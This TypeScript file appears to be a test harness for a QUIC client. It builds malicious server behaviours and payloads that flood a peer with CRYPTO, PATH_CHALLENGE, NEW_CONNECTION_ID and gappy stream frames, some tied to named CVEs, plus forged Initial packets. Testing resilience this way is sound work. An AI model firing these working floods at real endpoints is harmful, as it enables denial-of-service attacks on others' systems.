import { encodeVarint } from '../../../crawler/quic/varint.ts'
import type { QuicBehaviour } from './quic-behaviour.ts'
import { initialServerKeys, sealInitial } from './quic-packets.ts'

/** Payload of a packet, which with its header fits into 1,200 bytes. */
const PAYLOAD_BYTES = 1_150
/** A flood sends this, if it is let: more than any one connection may bring. */
const FLOOD_BYTES = 5 * 1024 * 1024
/** Bytes of Initial packets, where nothing tells the server that the client has left. */
const INITIAL_FLOOD_BYTES = 2 * 1024 * 1024
/** Frame types (RFC 9000, 19). */
const CRYPTO = 0x06
const STREAM_WITH_OFFSET_AND_LENGTH = 0x0e
const NEW_CONNECTION_ID = 0x18
const PATH_CHALLENGE = 0x1a
const [CLIENT_CONTROL_STREAM, SERVER_CONTROL_STREAM] = [2, 3]
/** Lies beyond all that the server itself sends in CRYPTO frames, so that what comes there waits for good. */
const CRYPTO_GAP = 1024 * 1024
const FLOOD_ID = Buffer.alloc(8, 1)

/** Fills packets with as many whole frames as each holds, in so many bytes of packets. */
function* payloads(frame: (n: number) => Buffer, floodBytes = FLOOD_BYTES): Generator<Buffer> {
  let n = 0
  for (let sent = 0; sent < floodBytes; sent += PAYLOAD_BYTES) {
    const frames: Buffer[] = []
    let length = 0
    for (let next = frame(n); length + next.length <= PAYLOAD_BYTES; next = frame(n)) {
      frames.push(next)
      length += next.length
      n += 1
    }
    yield Buffer.concat(frames)
  }
}

/** One byte of the handshake's stream, with a gap before it that is never filled. */
const cryptoByte = (n: number): Buffer =>
  Buffer.concat([Buffer.of(CRYPTO), encodeVarint(CRYPTO_GAP + 2 * n), Buffer.of(1, 0)])

/** One byte of a stream, within its window, with a gap before it. */
const streamByte =
  (stream: number) =>
  (n: number): Buffer =>
    Buffer.concat([
      Buffer.of(STREAM_WITH_OFFSET_AND_LENGTH, stream),
      encodeVarint(4_000 + 2 * (n % 5_000)),
      Buffer.of(1, 0),
    ])

const pathChallenge = (n: number): Buffer => {
  const frame = Buffer.alloc(9, PATH_CHALLENGE)
  frame.writeUInt32BE(n, 5)
  return frame
}

/** A connection id that retires all before it. */
const newConnectionId = (n: number): Buffer => {
  const sequence = encodeVarint(n + 1)
  const id = Buffer.alloc(8)
  id.writeUInt32BE(n, 4)
  return Buffer.concat([
    Buffer.of(NEW_CONNECTION_ID),
    sequence,
    sequence,
    Buffer.of(id.length),
    id,
    Buffer.alloc(16, id),
  ])
}

const floods = (frame: (n: number) => Buffer): QuicBehaviour => ({
  forges: true,
  established: (peer) => peer.forge(payloads(frame)),
})

/** Payloads that a client may pour as well. */
export const FLOOD_PAYLOADS: Readonly<Record<string, () => Iterable<Buffer>>> = {
  'CRYPTO frames': () => payloads(cryptoByte),
  'PATH_CHALLENGE frames': () => payloads(pathChallenge),
  'NEW_CONNECTION_ID frames': () => payloads(newConnectionId),
  'bytes of a stream with gaps': () => payloads(streamByte(CLIENT_CONTROL_STREAM)),
}

/** Servers that pour frames of one kind, each to be kept by whoever does not count. */
export const QUIC_FLOODS = {
  /** Anybody on the way who sees the first Initial could send this, before there is a connection at all. */
  'floods-initial-crypto': {
    datagram: function* ({ dcid, scid }) {
      // A client's packet to this id answers the flood.
      if (dcid.equals(FLOOD_ID)) return
      const keys = initialServerKeys(dcid)
      let packetNumber = 0
      for (const payload of payloads(cryptoByte, INITIAL_FLOOD_BYTES)) {
        yield sealInitial(keys, { dcid: scid, scid: FLOOD_ID }, packetNumber, payload)
        packetNumber += 1
      }
    },
  },
  /** CVE-2024-1765: CRYPTO frames after the handshake. */
  'floods-crypto': floods(cryptoByte),
  /** CVE-2023-6193: PATH_CHALLENGE, each of which wants an answer, and no ACK, so that no answer may be sent. */
  'floods-path-challenge': floods(pathChallenge),
  /** CVE-2024-1410: NEW_CONNECTION_ID that retires the id before, each of which wants a RETIRE_CONNECTION_ID. */
  'floods-connection-ids': floods(newConnectionId),
  /** Bytes of a stream that never make a whole. */
  'floods-stream-bytes': floods(streamByte(SERVER_CONTROL_STREAM)),
} as const satisfies Record<string, QuicBehaviour>
